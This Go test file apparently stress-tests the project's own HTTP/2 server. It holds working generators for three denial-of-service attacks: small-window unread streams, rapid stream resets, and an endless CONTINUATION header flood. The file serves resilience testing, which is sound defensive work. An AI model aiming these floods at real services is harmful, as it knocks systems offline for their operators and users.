package fault_test

import (
	"bytes"
	"context"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// headerBlock encodes a GET without state: every connection can send the same bytes.
func headerBlock(path, token, accept string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path},
		{Name: ":authority", Value: "tidemark"}, {Name: "accept", Value: accept},
	}
	if token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
	}
	for _, f := range fields {
		_ = e.WriteField(f) // a Buffer accepts all
	}
	return block.Bytes()
}

// http2Opening returns the bytes that begin a connection.
func http2Opening(settings ...http2.Setting) []byte {
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	_ = http2.NewFramer(&out, nil).WriteSettings(settings...)
	return out.Bytes()
}

// unreadOverHTTP2 sends the same GET on many streams of each connection, and takes no more
// of each answer than a window of so many bytes.
func unreadOverHTTP2(connections, streams int, window uint32, path, accept string) func(context.Context, *attackers) {
	return func(ctx context.Context, a *attackers) {
		var out bytes.Buffer
		out.Write(http2Opening(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}))
		f := http2.NewFramer(&out, nil)
		for i := range streams {
			_ = f.WriteHeaders(http2.HeadersFrameParam{
				StreamID: uint32(1 + 2*i), EndStream: true, EndHeaders: true,
				BlockFragment: headerBlock(path, a.token, accept),
			})
		}
		a.repeat(ctx, connections, attackPause, func(ctx context.Context, i int) {
			c := a.dial(ctx, 1+i, 0)
			if c == nil {
				return
			}
			defer c.Close()
			if !c.send(out.String()) {
				return
			}
			c.readFrames(streams)
		})
	}
}

// readFrames counts the answers on a connection until it ends, or until the given number of
// streams has ended.
func (c *attackConn) readFrames(streams int) {
	f := http2.NewFramer(c, c)
	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for streams > 0 {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.MetaHeadersFrame:
			c.by.answered(frame.PseudoValue("status"))
			if frame.StreamEnded() {
				streams--
			}
		case *http2.DataFrame:
			c.by.bytes.Add(int64(len(frame.Data())))
			if frame.StreamEnded() {
				streams--
			}
		case *http2.RSTStreamFrame:
			c.by.answered("RST_STREAM")
			streams--
		case *http2.GoAwayFrame:
			c.by.answered("GOAWAY " + frame.ErrCode.String())
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				_ = f.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !frame.IsAck() {
				_ = f.WritePing(true, frame.Data)
			}
		}
	}
}

// resets opens streams and resets each at once, on many connections from one address.
func resets(clients, perConnection int, path string) func(context.Context, *attackers) {
	var out bytes.Buffer
	out.Write(http2Opening())
	f := http2.NewFramer(&out, nil)
	block := headerBlock(path, "", "application/json")
	for i := range perConnection {
		id := uint32(1 + 2*i)
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndStream: true, EndHeaders: true, BlockFragment: block})
		_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
	}
	text := out.String()
	return func(ctx context.Context, a *attackers) {
		a.repeat(ctx, clients, 0, func(ctx context.Context, _ int) {
			c := a.dial(ctx, 1, 0)
			if c == nil {
				pause(ctx, attackPause)
				return
			}
			defer c.Close()
			if c.send(text) {
				a.answered("all sent")
			} else {
				a.answered("refused")
				pause(ctx, attackPause)
			}
			_ = c.SetReadDeadline(time.Now().Add(time.Second))
			_, _ = io.Copy(io.Discard, c)
		})
	}
}

// headersOverHTTP2 begins a block of headers and continues it without an end.
func headersOverHTTP2(clients int) func(context.Context, *attackers) {
	const fields = 100
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	for range fields {
		_ = e.WriteField(hpack.HeaderField{Name: "x-long", Value: strings.Repeat("x", 100)})
	}
	var opening, more bytes.Buffer
	opening.Write(http2Opening())
	_ = http2.NewFramer(&opening, nil).WriteHeaders(http2.HeadersFrameParam{
		StreamID: 1, BlockFragment: headerBlock("/v1/rooms/x/events", "", "application/json"),
	})
	_ = http2.NewFramer(&more, nil).WriteContinuation(1, false, block.Bytes()[1:]) // without the change of the table size
	return func(ctx context.Context, a *attackers) {
		a.repeat(ctx, clients, attackPause, func(ctx context.Context, i int) {
			c := a.dial(ctx, 1+i%4, 0)
			if c == nil {
				return
			}
			defer c.Close()
			for ok := c.send(opening.String()); ok && ctx.Err() == nil; ok = c.send(more.String()) {
			}
			a.answered("closed by the node")
		})
	}
}
